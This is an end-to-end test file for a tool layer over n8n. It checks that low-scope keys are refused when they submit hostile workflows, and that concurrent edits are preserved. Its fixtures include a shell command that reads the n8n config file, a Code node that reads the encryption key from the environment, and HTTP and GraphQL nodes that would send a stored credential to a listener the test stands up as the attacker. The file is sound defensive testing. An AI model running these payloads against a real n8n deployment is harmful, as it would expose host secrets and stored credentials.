import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startListener, type Listener } from '../../scripts/lib/listener';
import { connectedClient, n8nApi as n8n, scopedKey, type Json } from './client';

/**
 * Issue 39's attacks on the real n8n, each by a key with the lowest scope that once was enough: what
 * a workflow may run on the n8n host, which stored credentials it may send where, and whether one
 * caller's change can undo another's. Every refusal is checked in n8n itself (nothing made, nothing
 * run) and at a listener of the attacker's (nothing received).
 */
const writer = connectedClient('e2e-hostile-writer', scopedKey('hostile-writer', 'workflows:write,executions:read'));
const coder = connectedClient('e2e-hostile-coder', scopedKey('hostile-coder', 'workflows:write,workflows:code,executions:read'));
const other = connectedClient('e2e-hostile-other', scopedKey('hostile-other', 'workflows:write,workflows:read,executions:read'));
const owner = connectedClient('e2e-hostile-owner');

/** A listener of the attacker's: every request it receives, headers included. */
let listener: Listener;
let listenerUrl = '';
let received: string[] = [];
beforeAll(async () => {
  listener = await startListener();
  ({ url: listenerUrl, received } = listener);
});
afterAll(() => listener.close());

const webhook = (path: string) => ({
  name: 'Hook',
  type: 'n8n-nodes-base.webhook',
  typeVersion: 2,
  webhookId: crypto.randomUUID(),
  position: [0, 0],
  parameters: { path, httpMethod: 'POST', responseMode: 'onReceived', options: {} },
});
const command = { name: 'Cmd', type: 'n8n-nodes-base.executeCommand', typeVersion: 1, position: [200, 0], parameters: { command: 'id; cat ~/.n8n/config' } };
const chain = (...nodes: Json[]) => ({
  name: `hostile ${crypto.randomUUID()}`,
  nodes: nodes.map((node, i) => ({ position: [200 * i, 0], ...node })),
  connections: Object.fromEntries(nodes.slice(1).map((node, i) => [nodes[i]!.name, { main: [[{ node: node.name, type: 'main', index: 0 }]] }])),
  settings: { executionOrder: 'v1' },
});
/** Every workflow n8n holds, by name. */
const workflowNames = async () => ((await n8n('GET', '/workflows?limit=250')).data as Json[]).map((w) => w.name as string);

describe('what a workflow may run on the n8n host', () => {
  it('try_nodes with Execute Command is refused to workflows:write, and to every key while the deployment allows no one the host', async () => {
    const before = await workflowNames();
    for (const caller of [writer, owner]) {
      const text = await caller.refused('try_nodes', { nodes: [command] });
      expect(text).toMatch(
        /"Cmd" \(n8n-nodes-base\.executeCommand\) runs shell commands on the n8n host: class "host", and this deployment lets no caller use class "host"/,
      );
      expect(text).toMatch(/n8n's NODES_EXCLUDE/);
    }
    expect(await workflowNames()).toEqual(before);
  });

  it('a saved workflow with Execute Command behind a public webhook is refused at create_workflow', async () => {
    const text = await writer.refused('create_workflow', { workflow: chain(webhook(`cmd-${crypto.randomUUID()}`), command) });
    expect(text).toContain('class "host"');
  });

  it("a Code node reading the host's environment is class host too, even for a key that may run code", async () => {
    const readEnv = {
      name: 'Env',
      type: 'n8n-nodes-base.code',
      typeVersion: 2,
      parameters: { jsCode: 'return [{ json: { key: $env.N8N_ENCRYPTION_KEY } }];' },
    };
    const text = await coder.refused('try_nodes', { nodes: [readEnv] });
    expect(text).toContain('"Env" (n8n-nodes-base.code) reads the n8n host’s environment ($env): class "host"');
    const code = { name: 'Sum', type: 'n8n-nodes-base.code', typeVersion: 2, parameters: { jsCode: 'return [{ json: { n: $input.all().length } }];' } };
    expect(await writer.refused('try_nodes', { nodes: [code] })).toContain('it needs the scope "workflows:code"');
    expect((await coder.ok('try_nodes', { nodes: [code], items: [{}, {}] })).output.items).toEqual([{ n: 2 }]);
  });
});

describe("a stored credential's secret", () => {
  let credential: Json;
  beforeAll(async () => {
    credential = await n8n('POST', '/credentials', {
      name: `Header ${crypto.randomUUID()}`,
      type: 'httpHeaderAuth',
      data: { name: 'X-Secret', value: 'TOPSECRET' },
    });
  });

  it('never reaches a listener through a node a workflows:write key adds: by id, by name, as a predefined type, nor from a node that takes its address', async () => {
    const http = (credentials: Json, parameters: Json = { authentication: 'genericCredentialType', genericAuthType: 'httpHeaderAuth' }) => ({
      name: 'Leak',
      type: 'n8n-nodes-base.httpRequest',
      typeVersion: 4.2,
      parameters: { url: `${listenerUrl}/collect`, ...parameters, options: {} },
      credentials,
    });
    const graphql = {
      name: 'Leak',
      type: 'n8n-nodes-base.graphql',
      typeVersion: 1.1,
      parameters: { endpoint: `${listenerUrl}/graphql`, authentication: 'headerAuth', query: '{ a }' },
      credentials: { httpHeaderAuth: { id: credential.id } },
    };
    const attempts = [
      http({ httpHeaderAuth: { id: credential.id } }),
      http({ httpHeaderAuth: { name: credential.name } }),
      http({ httpHeaderAuth: { id: credential.id } }, { authentication: 'predefinedCredentialType', nodeCredentialType: 'httpHeaderAuth' }),
      graphql,
    ];
    for (const node of attempts) {
      const text = await writer.refused('try_nodes', { nodes: [node] });
      expect(text, JSON.stringify(node.parameters)).toMatch(
        /uses the stored credential httpHeaderAuth ".+": class "credentials", and it needs the scope "credentials:use"/,
      );
    }
    expect(await writer.refused('create_workflow', { workflow: chain(webhook(`leak-${crypto.randomUUID()}`), attempts[0]!), force: true })).toContain(
      'class "credentials"',
    );
    expect(received).toEqual([]);
  });

  it('is out of reach of a Code node for a key without workflows:code', async () => {
    const code = {
      name: 'Read',
      type: 'n8n-nodes-base.code',
      typeVersion: 2,
      parameters: { jsCode: `return [{ json: await this.getCredentials('httpHeaderAuth') }];` },
    };
    expect(await writer.refused('try_nodes', { nodes: [code] })).toContain('class "code"');
    expect(received).toEqual([]);
  });
});

describe("one caller's change never undoes another's", () => {
  const node = (name: string) => ({ name, type: 'n8n-nodes-base.noOp', typeVersion: 1, position: [400, 0], parameters: {} });

  it('two keys editing one workflow at the same instant, round after round: every change kept, each in its own version', async () => {
    const { id } = await owner.ok('create_workflow', { workflow: chain(webhook(`turns-${crypto.randomUUID()}`)) });
    const rounds = 12;
    let made = 0;
    let clashes = 0;
    for (let round = 0; round < rounds; round++) {
      const answers = await Promise.all([
        writer.call('edit_workflow', { id, operations: [{ type: 'addNode', node: node(`A${round}`) }] }),
        other.call('edit_workflow', { id, operations: [{ type: 'addNode', node: node(`B${round}`) }] }),
      ]);
      for (const answer of answers) {
        if (answer.json.saved === true) made++;
        else if (/changed|being changed/.test(answer.text)) clashes++;
        else throw new Error(`neither saved nor a clash: ${answer.text}`);
      }
    }
    const names = ((await n8n('GET', `/workflows/${id}`)).nodes as Json[]).map((n) => n.name as string);
    const lost = Array.from({ length: rounds }, (_, r) => [`A${r}`, `B${r}`])
      .flat()
      .filter((n) => !names.includes(n));
    const versions = (await owner.ok('list_workflow_versions', { id, limit: 200 })).versions as Json[];
    console.log(JSON.stringify({ concurrency: { rounds, changesSent: rounds * 2, changesMade: made, clashesReported: clashes, lost: lost.length } }));
    expect(lost).toEqual([]);
    expect([made, clashes]).toEqual([rounds * 2, 0]);
    // Each change kept the version it replaced: as many versions as changes, after the one kept at creation, all different.
    expect(versions).toHaveLength(made + 1);
    const replaced = versions.filter((v) => v.change !== 'create');
    expect(new Set(replaced.map((v) => v.versionId)).size).toBe(made);
    await owner.ok('delete_workflow', { id });
  });

  it('a change arriving during another’s tests waits for them and their put-back, and is then made on what was put back', async () => {
    const path = `slow-${crypto.randomUUID()}`;
    const wait = { name: 'Wait', type: 'n8n-nodes-base.wait', typeVersion: 1.1, webhookId: crypto.randomUUID(), parameters: { amount: 3, unit: 'seconds' } };
    const respond = {
      name: 'Respond',
      type: 'n8n-nodes-base.respondToWebhook',
      typeVersion: 1.1,
      parameters: { respondWith: 'json', responseBody: '={{ { "ok": true } }}' },
    };
    const hook = { ...webhook(path), parameters: { path, httpMethod: 'POST', responseMode: 'responseNode', options: {} } };
    const { id } = await owner.ok('create_workflow', { workflow: chain(hook, wait, respond) });
    await owner.ok('save_workflow_test', { id, test: { name: 'wants false', expect: { body: { '/ok': false } } } });
    const [a, b] = await Promise.all([
      writer.call('edit_workflow', { id, operations: [{ type: 'addNode', node: node('From A') }], runTests: true }),
      new Promise((resolve) => setTimeout(resolve, 1500)).then(() =>
        other.call('edit_workflow', {
          id,
          operations: [
            { type: 'updateName', name: 'Renamed by B' },
            { type: 'addNode', node: node('From B') },
          ],
        }),
      ),
    ]);
    expect(a.text).toMatch(/The tests step failed: .*is as it was before this call\./);
    expect(b.json.saved, b.text).toBe(true);
    const now = await n8n('GET', `/workflows/${id}`);
    expect(now.name).toBe('Renamed by B');
    expect((now.nodes as Json[]).map((n) => n.name)).toEqual(expect.arrayContaining(['From B']));
    expect((now.nodes as Json[]).map((n) => n.name)).not.toContain('From A');
    await owner.ok('delete_workflow', { id });
  }, 60_000);

  it('test_workflow leaves a workflow active that another key activated during the run', async () => {
    const path = `active-${crypto.randomUUID()}`;
    const wait = { name: 'Wait', type: 'n8n-nodes-base.wait', typeVersion: 1.1, webhookId: crypto.randomUUID(), parameters: { amount: 3, unit: 'seconds' } };
    const { id } = await owner.ok('create_workflow', {
      workflow: chain({ ...webhook(path), parameters: { path, httpMethod: 'POST', responseMode: 'lastNode', options: {} } }, wait),
    });
    const [tested, activated] = await Promise.all([
      writer.call('test_workflow', { id, waitSeconds: 20 }),
      new Promise((resolve) => setTimeout(resolve, 1500)).then(() => other.ok('activate_workflow', { id })),
    ]);
    // The activation comes during the run (short calls do not wait behind long ones: a queue of their own).
    expect(activated.active).toBe(true);
    expect(tested.json.workflow).toMatchObject({
      activatedForTheRun: true,
      stillActive: true,
      warning: expect.stringContaining('set by another call during the run'),
    });
    expect((await n8n('GET', `/workflows/${id}`)).active).toBe(true);
    await owner.ok('delete_workflow', { id });
  }, 60_000);
});
